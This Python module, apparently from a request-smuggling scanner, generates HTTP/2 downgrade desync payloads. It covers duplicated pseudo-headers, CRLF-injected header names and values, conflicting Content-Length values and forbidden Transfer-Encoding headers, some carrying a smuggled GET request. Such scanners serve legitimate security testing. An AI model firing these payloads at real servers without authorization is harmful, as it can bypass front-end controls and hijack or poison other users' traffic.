"""HTTP/2 translation smuggling payloads.

These model desyncs that happen when a front end speaking HTTP/2 rewrites a
request into HTTP/1.1 for its back end: duplicated or unknown pseudo-headers,
characters that are legal in an HPACK block but not in an HTTP/1.1 header
line, connection-specific headers HTTP/2 forbids, and Content-Length values
that disagree with the DATA frames actually sent.

Each variant has two renderings:
- ``raw``: the downgraded HTTP/1.1 request a careless front end would emit,
  which is what gets sent on the wire
- ``frames``: an HTTP/2 frame sequence holding the crafted request on
  stream 1 and a follow-up request on stream 3
"""

from dataclasses import dataclass
from typing import List, Tuple

from desync_scanner.core.models import CandidatePayload, CheckType
from desync_scanner.payloads.generator import (
    RequestParts,
    build_request_line,
    encode_request,
    format_cookies,
    format_custom_headers,
)
from desync_scanner.payloads.http2.framing import (
    HeaderList,
    encode_request_frames,
    request_pseudo_headers,
    settings_header_value,
)

SMUGGLED_PATH = "/smuggled"

Header = Tuple[str, str]


@dataclass(frozen=True)
class H2Variant:
    """One translation-abuse case.

    ``pseudo`` headers follow the real pseudo-header block in the HTTP/2
    rendering; ``extra`` headers follow the regular headers. ``body`` is
    split into one DATA frame per segment.
    """
    description: str
    pseudo: Tuple[Header, ...] = ()
    extra: Tuple[Header, ...] = ()
    body: Tuple[bytes, ...] = ()


def _smuggled(host: str) -> bytes:
    return encode_request(
        build_request_line("GET", SMUGGLED_PATH) + f"Host: {host}\r\n\r\n"
    )


def _variants(parts: RequestParts) -> List[H2Variant]:
    smuggled = _smuggled(parts.host)
    chunked_prefix = b"0\r\n\r\n" + smuggled

    return [
        # Pseudo-header abuse
        H2Variant("Duplicate :method pseudo-header", pseudo=((":method", "GET"),)),
        H2Variant("Duplicate :path pseudo-header", pseudo=((":path", "/admin"),)),
        H2Variant("Duplicate :authority pseudo-header", pseudo=((":authority", "malicious.com"),)),
        H2Variant("Duplicate :scheme pseudo-header", pseudo=((":scheme", "http"),)),
        H2Variant("Unknown pseudo-header", pseudo=((":custom-header", "value"),)),
        H2Variant("Uppercase :Method pseudo-header", pseudo=((":Method", "GET"),)),
        H2Variant("Uppercase :PATH pseudo-header", pseudo=((":PATH", "/admin"),)),
        H2Variant(
            "Pseudo-header after regular header",
            extra=(("X-Custom", "value"), (":method", "GET")),
        ),
        H2Variant(
            "Host header conflicting with :authority",
            extra=(("Host", "malicious.com"),),
        ),

        # Header names HTTP/1.1 cannot represent
        H2Variant("Colon inside header name", extra=(("x-custom:header", "value"),)),
        H2Variant("Underscore header name", extra=(("x_custom_header", "value"),)),
        H2Variant("Space inside header name", extra=(("x custom", "value"),)),
        H2Variant(
            "CRLF inside header name",
            extra=(("x-custom\r\nx-injected", "value"),),
        ),

        # Content-Length disagreements
        H2Variant(
            "Content-Length 0 with smuggled request in DATA",
            extra=(("Content-Length", "0"),),
            body=(smuggled,),
        ),
        H2Variant(
            "Multiple Content-Length headers",
            extra=(("Content-Length", "0"), ("Content-Length", str(len(smuggled)))),
            body=(smuggled,),
        ),
        H2Variant(
            "Content-Length 0 with unexpected body",
            extra=(("Content-Length", "0"),),
            body=(b"unexpected body content",),
        ),
        H2Variant(
            "Content-Length longer than DATA",
            extra=(("Content-Length", "10"),),
            body=(b"x",),
        ),
        H2Variant(
            "Request split across DATA frame boundary",
            extra=(("Content-Length", "1"),),
            body=(b"x", smuggled),
        ),

        # Header value injection
        H2Variant(
            "LF injection in header value",
            extra=(("X-Custom", "value1\nX-Injected: injected"),),
        ),
        H2Variant(
            "CRLF injection in header value",
            extra=(("X-Custom", "value1\r\nX-Injected: injected"),),
        ),
        H2Variant(
            "CRLF injection of Transfer-Encoding",
            extra=(("X-Custom", "value1\r\nTransfer-Encoding: chunked"),),
            body=(chunked_prefix,),
        ),

        # Connection-specific headers HTTP/2 forbids
        H2Variant(
            "Transfer-Encoding chunked",
            extra=(("Transfer-Encoding", "chunked"),),
            body=(chunked_prefix,),
        ),
        H2Variant("Connection header", extra=(("Connection", "close"),)),
        H2Variant("Keep-Alive header", extra=(("Keep-Alive", "timeout=5, max=1000"),)),
        H2Variant("Proxy-Connection header", extra=(("Proxy-Connection", "keep-alive"),)),
        H2Variant("Upgrade header", extra=(("Upgrade", "h2c"),)),
        H2Variant(
            "HTTP2-Settings with Transfer-Encoding",
            extra=(
                ("HTTP2-Settings", settings_header_value()),
                ("Transfer-Encoding", "chunked"),
            ),
            body=(chunked_prefix,),
        ),
        H2Variant(
            "TE header other than trailers",
            extra=(("TE", "chunked"),),
        ),
    ]


def render_http1(parts: RequestParts, variant: H2Variant) -> bytes:
    """Downgraded HTTP/1.1 form of a variant."""
    head = build_request_line(parts.method, parts.path)
    head += f"Host: {parts.host}\r\n"
    head += format_custom_headers(parts.headers)
    head += format_cookies(parts.cookies)
    for name, value in variant.pseudo + variant.extra:
        head += f"{name}: {value}\r\n"
    head += "\r\n"
    return encode_request(head) + b"".join(variant.body)


def _regular_headers(parts: RequestParts) -> HeaderList:
    headers = []
    for line in parts.headers:
        name, _, value = line.partition(":")
        headers.append((name.strip().lower(), value.strip()))
    if parts.cookies:
        headers.append(("cookie", "; ".join(parts.cookies)))
    return headers


def render_frames(parts: RequestParts, variant: H2Variant) -> bytes:
    """HTTP/2 frame rendering of a variant plus the follow-up request."""
    first = request_pseudo_headers(parts.method, parts.path, parts.host)
    first += list(variant.pseudo)
    first += _regular_headers(parts)
    first += list(variant.extra)
    second = request_pseudo_headers("GET", SMUGGLED_PATH, parts.host)
    return encode_request_frames(first, variant.body, second)


def generate_h2(parts: RequestParts) -> List[CandidatePayload]:
    parts.validate(CheckType.H2.value)
    return [
        CandidatePayload(
            check_type=CheckType.H2,
            index=index,
            description=variant.description,
            raw=render_http1(parts, variant),
            frames=render_frames(parts, variant),
        )
        for index, variant in enumerate(_variants(parts))
    ]
